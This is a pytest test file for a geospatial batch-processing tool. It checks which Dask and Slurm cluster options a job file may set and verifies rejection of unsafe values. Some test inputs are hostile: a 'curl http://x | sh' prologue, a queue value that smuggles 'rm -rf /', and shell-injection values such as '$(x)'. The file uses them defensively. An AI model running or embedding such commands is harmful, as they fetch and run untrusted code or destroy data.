"""What a job file may have a cluster do as its user, and what is remembered of it."""

from __future__ import annotations

import pytest

from geobatch_tui.config.cluster import cluster_code
from geobatch_tui.config.layers import load_job, make_job
from geobatch_tui.config.paths import sample_dir
from geobatch_tui.config.problems import InvalidJobError

JOB = """
[source]
inputs = ["a.tif"]
{allow}
[op]
name = "raster.convert"
[output]
dir = "out"
[engine]
executor = "dask"
[dask]
{dask}
"""
SLURM = 'cluster = "slurm"\noptions = {{ {} }}'


def load(tmp_path, dask, allow="", **more):
    path = tmp_path / "job.toml"
    path.write_text(JOB.format(dask=dask, allow=allow))
    return load_job(path, environ={}, **more)


@pytest.mark.parametrize(
    "dask",
    [
        'cluster = "local"',
        'cluster = "tcp://10.0.0.1:8786"',
        SLURM.format('queue = "short", cores = 16, memory = "64GB", walltime = "02:00:00"'),
        SLURM.format('resource_spec = "select=1:ncpus=36:mem=100GB", log_directory = "/logs"'),
    ],
)
def test_what_a_job_file_may_say(tmp_path, dask):
    """Addresses, and words that say how much, where and as whom."""
    job = load(tmp_path, dask).job
    assert bool(cluster_code.identities(job)) == ("local" not in dask)


@pytest.mark.parametrize(
    ("dask", "said"),
    [
        (
            'cluster = "site.clusters:Ours"',
            "dask.cluster: site.clusters:Ours is code of an installed package",
        ),
        (
            SLURM.format('job_script_prologue = ["curl http://x | sh"]'),
            "dask.options.job_script_prologue",
        ),
        (SLURM.format('python = "/tmp/python"'), "dask.options.python"),
        (SLURM.format('queue = "short\\nrm -rf /"'), "dask.options.queue"),
        (SLURM.format('memory = "1GB; x"'), "dask.options.memory"),
        (SLURM.format('account = "$(x)"'), "dask.options.account"),
    ],
)
def test_programs_have_to_be_allowed(tmp_path, dask, said):
    """As functions of the job's own; whoever writes a job in Python chose them."""
    with pytest.raises(InvalidJobError) as raised:
        load(tmp_path, dask)
    assert said in str(raised.value)
    assert "source.allow_code = true" in str(raised.value)
    assert load(tmp_path, dask, "allow_code = true").job.dask.cluster
    load(tmp_path, dask, overrides=["engine.executor=process"])


def test_the_identity_is_of_all_that_runs():
    """Another queue, address or certificate is another agreement; more workers are not."""

    def identity(**dask):
        values = {
            "source": {"inputs": ["/a.tif"]},
            "op": {"name": "raster.convert"},
            "output": {"dir": "/out"},
            "engine": {"executor": "dask"},
            "dask": dask,
        }
        return cluster_code.identities(make_job(values).job)

    first = identity(cluster="slurm", options={"queue": "a"})
    assert first == identity(cluster="slurm", options={"queue": "a"}, workers=9)
    assert first != identity(cluster="slurm", options={"queue": "b"})
    assert first != identity(cluster="pbs", options={"queue": "a"})
    assert identity(cluster="tcp://h:1") != identity(cluster="tcp://h:2")
    assert not identity(cluster="local")


def test_paths_of_tls_are_relative_to_the_job_file(tmp_path):
    """As all paths in it."""
    text = (
        'cluster = "tls://h:1"\nsecurity = { ca_file = "ca.pem", cert = "c.pem", key = "/k.pem" }'
    )
    job = load(tmp_path, text).job
    assert job.dask.security == {
        "ca_file": str(tmp_path / "ca.pem"),
        "cert": str(tmp_path / "c.pem"),
        "key": "/k.pem",
    }


@pytest.mark.parametrize(
    "path", sorted((sample_dir() / "clusters").glob("*.toml")), ids=lambda path: path.stem
)
def test_the_examples(path):
    """There is a job for each kind of cluster, and it is right."""
    job = load_job(path, environ={}).job
    assert job.engine.executor == "dask"
    assert job.dask.cluster.split(":")[0] in {"local", "tls", "slurm", "kubernetes"}
